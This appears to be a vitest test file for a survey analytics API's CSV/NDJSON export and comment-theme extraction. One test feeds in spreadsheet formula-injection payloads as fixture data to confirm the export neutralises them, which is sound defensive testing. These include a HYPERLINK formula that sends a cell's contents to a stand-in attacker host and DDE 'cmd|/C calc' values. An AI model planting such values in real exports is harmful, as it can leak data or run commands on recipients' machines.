import { describe, expect, it } from 'vitest';
import { importCsv } from '../../src/import/import-csv.ts';
import { post } from '../helpers.ts';
import { analyticsApp, answer, get, type Answer } from './analytics-app.ts';
import { parseCsv } from './csv-parse.ts';

const TRICKY: Answer[] = [
  { id: 'resp_csv_01', score: 3, at: '2026-01-01T10:00:00Z', comment: 'Slow, "very" slow\r\nand rude', touchpoint: 'checkout', properties: { plan: 'pro', seats: 3, trial: false } },
  { id: 'resp_csv_02', score: 10, at: '2026-01-01T10:00:00Z', comment: 'Één café ☕, merci', locale: 'nl-BE', channel: 'app' },
  { id: 'resp_csv_03', score: 7, at: '2026-01-02T10:00:00Z' },
];

describe('GET /v1/surveys/:id/export', () => {
  it('streams RFC 4180 CSV that parses back to exactly the stored responses', async () => {
    const app = await analyticsApp();
    const many = Array.from({ length: 1200 }, (_, index) => ({ id: `resp_bulk_${String(index).padStart(4, '0')}`, score: index % 11, at: Date.parse('2026-01-03T00:00:00Z') + index * 1000, comment: index % 3 ? undefined : `note ${index}, with "quotes"` }));
    await answer(app, [...TRICKY, ...many]);
    const { status, body, response } = await get(app, '/v1/surveys/demo/export?format=csv');
    expect(status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="demo-responses.csv"');
    const [header, ...records] = parseCsv(body as string);
    expect(header).toEqual(['id', 'surveyId', 'score', 'metric', 'comment', 'consent', 'userId', 'email', 'touchpoint', 'channel', 'journey', 'locale', 'page', 'device', 'properties', 'createdAt', 'updatedAt']);
    expect(records).toHaveLength(1203);
    const listed = [];
    for (let cursor = ''; ; ) {
      const page = await get(app, `/v1/surveys/demo/responses?limit=500${cursor}`);
      listed.push(...page.body.responses);
      if (!page.body.nextCursor) break;
      cursor = `&cursor=${page.body.nextCursor}`;
    }
    const asCsv = (value: unknown) => (value === null ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value));
    const expected = listed.reverse().map((response) => header.map((field) => asCsv(response[field])));
    expect(records).toEqual(expected);
    expect(records[0][header.indexOf('comment')]).toBe('Slow, "very" slow\r\nand rude');
    expect(JSON.parse(records[0][header.indexOf('properties')])).toEqual({ plan: 'pro', seats: 3, trial: false });
  }, 30_000);

  it('neutralises cells a spreadsheet would run, from ingest and from imports, and keeps NDJSON exact', async () => {
    const app = await analyticsApp();
    const hostile = {
      id: 'resp_formula1', surveyId: 'demo', score: 0, comment: '=HYPERLINK("https://evil.example/?"&A1,"Invoice")', page: '+cmd|/C calc!A0',
      respondent: { userId: '@SUM(1+1)*cmd|/C calc!A0' }, properties: { note: '-2+3' },
    };
    expect((await post(app, '/v1/responses', hostile, { origin: 'https://shop.example' })).statusCode).toBe(201);
    await importCsv(app.db, 'created_at,score,comment,user_id\r\n2026-01-05,4,"=1+1",-42\r\n', { surveyId: 'demo' });

    const [header, ...records] = parseCsv((await get(app, '/v1/surveys/demo/export?format=csv')).body as string);
    const byId = Object.fromEntries(records.map((record) => [record[0], Object.fromEntries(header.map((field, index) => [field, record[index]]))]));
    const imported = records.find((record) => record[0].startsWith('imp_'))!;
    expect(byId.resp_formula1).toMatchObject({ comment: `'${hostile.comment}`, page: `'${hostile.page}`, userId: `'${hostile.respondent.userId}`, properties: '{"note":"-2+3"}' });
    expect(imported[header.indexOf('comment')]).toBe("'=1+1");
    expect(imported[header.indexOf('userId')]).toBe("'-42");

    const lines = ((await get(app, '/v1/surveys/demo/export?format=ndjson')).body as string).trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines.find((line) => line.id === 'resp_formula1')).toMatchObject({ comment: hostile.comment, page: hostile.page, userId: hostile.respondent.userId, properties: hostile.properties });
    expect(lines.find((line) => line.id.startsWith('imp_'))).toMatchObject({ comment: '=1+1', userId: '-42' });
  });

  it('streams NDJSON, one response per line, honouring filters', async () => {
    const app = await analyticsApp();
    await answer(app, TRICKY);
    const { body, response } = await get(app, '/v1/surveys/demo/export?format=ndjson&from=2026-01-01&to=2026-01-02');
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = (body as string).trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines.map((line) => line.id)).toEqual(['resp_csv_01', 'resp_csv_02']);
    expect(lines[1]).toMatchObject({ comment: 'Één café ☕, merci', locale: 'nl-BE', channel: 'app', consent: null, createdAt: '2026-01-01T10:00:00.000Z' });
    const bad = await get(app, '/v1/surveys/demo/export?format=xml');
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toBe('format: must be csv or ndjson');
  });
});

describe('GET /v1/surveys/:id/themes', () => {
  it('finds phrases, not fragments, labels every count by the set it counts, and quotes the clearest comments', async () => {
    const app = await analyticsApp();
    const at = '2026-01-05T10:00:00Z';
    await answer(app, [
      { score: 2, at, comment: 'Slow delivery and the box was damaged' },
      { score: 4, at, comment: 'Slow delivery again!' },
      { score: 5, at, comment: 'Slow deliveries, great...' },
      { score: 6, at, comment: 'Great, just great' },
      { score: 3, at, comment: 'Checkout kept failing on my card' },
      { score: 1, at, comment: 'checkout kept failing' },
      { score: 9, at, comment: 'Slow delivery but free returns' },
      { score: 10, at, comment: 'Free returns' },
      { score: 8, at },
    ]);
    const { status, body } = await get(app, '/v1/surveys/demo/themes?group=detractor');
    expect(status).toBe(200);
    expect(body).toMatchObject({ group: 'detractor', language: 'en', truncated: false, comments: { all: 8, detractors: 6, passives: 0, promoters: 2 } });
    // "checkout kept" and "kept failing" merge into the phrase; "great" is sentiment, never a theme.
    expect(body.themes.map((theme: { theme: string }) => theme.theme)).toEqual(['slow delivery', 'checkout kept failing']);
    // 3 detractors mention slow delivery; 4 answers in all (one promoter), whose NPS is −50.
    expect(body.themes[0]).toMatchObject({ mentions: { all: 4, detractors: 3, passives: 0, promoters: 1 }, nps: { n: 4, nps: -50 } });
    // The clearest quotes: the comment that says most first.
    expect(body.themes[0].quotes).toEqual(['Slow delivery and the box was damaged', 'Slow delivery again!']);
    const everyone = await get(app, '/v1/surveys/demo/themes');
    expect(everyone.body.themes.find((theme: { theme: string }) => theme.theme === 'free returns')).toMatchObject({ mentions: { all: 2, promoters: 2 }, nps: { n: 2, nps: 100 } });
  });

  it("stems Dutch comments in a Dutch survey's language, locale or not", async () => {
    const app = await analyticsApp();
    const at = '2026-01-05T10:00:00Z';
    await answer(app, [
      { score: 2, at, locale: 'nl-NL', comment: 'Trage bezorging, weer' },
      { score: 3, at, locale: 'nl-NL', comment: 'Trage bezorging, slecht' },
      { score: 4, at, comment: 'trage bezorging' },
      { score: 9, at, locale: 'nl-BE', comment: 'Vriendelijke medewerkers, goed' },
      { score: 10, at, comment: 'vriendelijke medewerkers' },
    ]);
    const { status, body } = await get(app, '/v1/surveys/demo/themes');
    expect(status).toBe(200);
    expect(body.language).toBe('nl');
    expect(body.themes.map((theme: { theme: string; mentions: { all: number } }) => [theme.theme, theme.mentions.all]))
      .toEqual([['trage bezorging', 3], ['vriendelijke medewerkers', 2]]);
    for (const sentiment of ['slecht', 'goed']) expect(JSON.stringify(body.themes.map((theme: { theme: string }) => theme.theme))).not.toContain(sentiment);
  });
});
